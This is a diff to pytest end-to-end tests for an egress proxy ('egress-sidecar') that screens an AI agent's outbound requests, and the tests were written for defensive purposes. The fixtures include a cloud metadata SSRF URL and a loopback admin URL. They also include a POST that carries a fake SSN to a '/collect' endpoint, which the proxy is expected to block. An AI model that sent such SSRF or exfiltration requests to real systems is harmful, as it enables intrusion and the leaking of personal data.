@@ -10,8 +10,9 @@ from pathlib import Path
 import pytest
 
 from tests.corpus import github
+from tests.support.raw import connect
 from tests.support.servers import PII_SSN, UPSTREAM_HOST, WAIT
-from tests.support.sidecar import run_client
+from tests.support.sidecar import Sidecar, run_client
 from tests.support.waiting import eventually
 
 JSON = {"Content-Type": "application/json"}
@@ -76,10 +77,15 @@ def test_high_risk_pii_is_redacted_before_it_leaves(local, upstream):
 
 def test_ssrf_destinations_are_denied_without_contact(local):
     sidecar = local()
-    for url in ("http://169.254.169.254/latest/meta-data/", "https://127.0.0.3:9/admin"):
+    for url in ("http://169.254.169.254/latest/meta-data/", "http://127.0.0.3:9/admin"):
         result = run_client(sidecar, "curl", "GET", url)
         assert result.status == 403
         assert "SSRF" in result.json()["reason_codes"]
+    # Over TLS the CONNECT itself is judged, before any tunnel opens.
+    status, doc, sock = connect(str(sidecar.info.proxy), "127.0.0.3:9")
+    sock.close()
+    assert status == 403
+    assert "SSRF" in doc["reason_codes"]
 
 
 def test_read_then_write_is_denied(local, upstream):
@@ -89,14 +95,16 @@ def test_read_then_write_is_denied(local, upstream):
     assert PII_SSN in read.body.decode()  # the agent read it legitimately
     eventually(lambda: sidecar.metric("egress_sidecar_response_scans_posted_total") == 1)
     # Carrying it to another destination (denied before any contact) is flagged.
-    write = run_client(sidecar, "requests", "POST", "https://127.0.0.3:9/collect",
+    write = run_client(sidecar, "requests", "POST", "http://127.0.0.3:9/collect",
                        json.dumps({"data": f"ssn {PII_SSN}"}).encode(), JSON)  # fmt: skip
     assert write.status == 403
     assert "READ_THEN_WRITE" in write.json()["reason_codes"]
 
 
-def _cli(*args: str, admin: str) -> subprocess.CompletedProcess[str]:
-    return subprocess.run([EXE, *args, "--admin", admin], capture_output=True, text=True,
+def _cli(*args: str, sidecar: Sidecar) -> subprocess.CompletedProcess[str]:
+    """`egress-sidecar approvals ...`: the admin token is read from the confdir."""
+    where = ["--admin", str(sidecar.info.admin), "--confdir", str(sidecar.confdir)]
+    return subprocess.run([EXE, *args, *where], capture_output=True, text=True,
                           timeout=WAIT, check=False)  # fmt: skip
 
 
@@ -108,26 +116,25 @@ def test_local_approvals_cli_and_restart(local, upstream, tmp_path):
         "    action: REQUIRE_APPROVAL\n    priority: 10\n"
     )
     sidecar = local(policy=str(policy), approval_timeout=30)
-    admin = str(sidecar.info.admin)
     from tests.e2e.test_approvals import _in_background
 
     held, box = _in_background(run_client, sidecar, "requests", "POST",
                                upstream.https + "/reports/q3", b'{"q": 3}', JSON)  # fmt: skip
     eventually(lambda: sidecar.metric("egress_sidecar_approvals_pending") == 1)
-    listing = _cli("approvals", "list", admin=admin)
+    listing = _cli("approvals", "list", sidecar=sidecar)
     assert listing.returncode == 0, listing.stderr
     approval_id, status = listing.stdout.split()[:2]
     assert status == "pending"
-    assert "POST 127.0.0.2" in listing.stdout
+    assert f"POST https://127.0.0.2:{upstream.https_port}/reports/q3" in listing.stdout
     assert "POLICY:approve-reports" in listing.stdout
 
-    approved = _cli("approvals", "approve", approval_id, admin=admin)
+    approved = _cli("approvals", "approve", approval_id, sidecar=sidecar)
     assert approved.stdout.strip() == f"{approval_id}: approved"
     held.join(WAIT)
     assert box["result"].status == 200
     assert box["result"].headers["x-interven-approval"] == "approved"
     assert upstream.requests_to("/reports/q3")[0].body == b'{"q": 3}'
-    again = _cli("approvals", "approve", approval_id, admin=admin)
+    again = _cli("approvals", "approve", approval_id, sidecar=sidecar)
     assert again.returncode == 2
     assert "already approved" in again.stderr
 
@@ -138,16 +145,15 @@ def test_local_approvals_cli_and_restart(local, upstream, tmp_path):
     sidecar.stop()
     held2.join(WAIT)
     restarted = local(policy=str(policy), approval_timeout=30)
-    admin = str(restarted.info.admin)
-    pending = _cli("approvals", "list", admin=admin).stdout.split()
+    pending = _cli("approvals", "list", sidecar=restarted).stdout.split()
     assert pending[1] == "pending"
-    assert _cli("approvals", "approve", pending[0], admin=admin).returncode == 0
+    assert _cli("approvals", "approve", pending[0], sidecar=restarted).returncode == 0
     retry = run_client(restarted, "requests", "POST", upstream.https + "/reports/q4",
                        b'{"q": 4}', JSON)  # fmt: skip
     assert retry.status == 200
     assert retry.headers["x-interven-approval"] == "approved"
     assert len(upstream.requests_to("/reports/q4")) == 1
-    denied = _cli("approvals", "deny", "no-such-id", admin=admin)
+    denied = _cli("approvals", "deny", "no-such-id", sidecar=restarted)
     assert denied.returncode == 2
     assert "no approval no-such-id" in denied.stderr
 
@@ -170,8 +176,7 @@ def test_refuse_mode_answers_at_once_and_lets_the_retry_through_once_approved(
     assert sidecar.metric("egress_sidecar_approvals_pending") == 0  # nothing was held
     assert upstream.requests_to("/reports/refused") == []
 
-    admin = str(sidecar.info.admin)
-    assert _cli("approvals", "approve", approval_id, admin=admin).returncode == 0
+    assert _cli("approvals", "approve", approval_id, sidecar=sidecar).returncode == 0
     retry = run_client(sidecar, "curl", "POST", url, body, JSON)
     assert retry.status == 200
     assert retry.headers["x-interven-approval"] == "approved"
